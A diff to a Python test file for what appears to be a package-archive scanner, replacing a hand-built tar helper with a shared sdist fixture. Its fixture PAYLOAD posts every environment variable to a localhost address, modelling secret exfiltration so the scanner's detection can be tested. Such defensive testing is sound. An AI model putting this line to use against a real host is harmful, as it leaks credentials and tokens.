@@ -7,12 +7,12 @@ Every payload is benign by construction (127.0.0.1) and nothing is ever run.
 
 from __future__ import annotations
 
-import io
-import tarfile
+from collections.abc import Mapping
 from pathlib import Path
 
 from guard.analysis.scan import scan_archive
 from guard.analysis.scan.scripts import by_file_name, named_files, parses
+from tests.analysis.test_scan import sdist
 
 SETUP = (
     "import os, subprocess, sys\n"
@@ -24,18 +24,9 @@ SETUP = (
 PAYLOAD = "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n"
 
 
-def _tar(tmp_path: Path, files: dict[str, str], name: str = "demo-1.0.tar") -> Path:
-    """An uncompressed tar (no bomb ratio to trip on a large member)."""
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w") as archive:
-        for path, text in files.items():
-            data = text.encode()
-            info = tarfile.TarInfo(f"demo-1.0/{path}")
-            info.size = len(data)
-            archive.addfile(info, io.BytesIO(data))
-    target = tmp_path / name
-    target.write_bytes(buffer.getvalue())
-    return target
+def _tar(tmp_path: Path, files: Mapping[str, str]) -> Path:
+    contents: dict[str, str | bytes] = dict(files)
+    return sdist(tmp_path, contents, gzip=False)
 
 
 def test_a_word_names_a_file_by_path_then_by_its_directory_then_by_its_name() -> None:
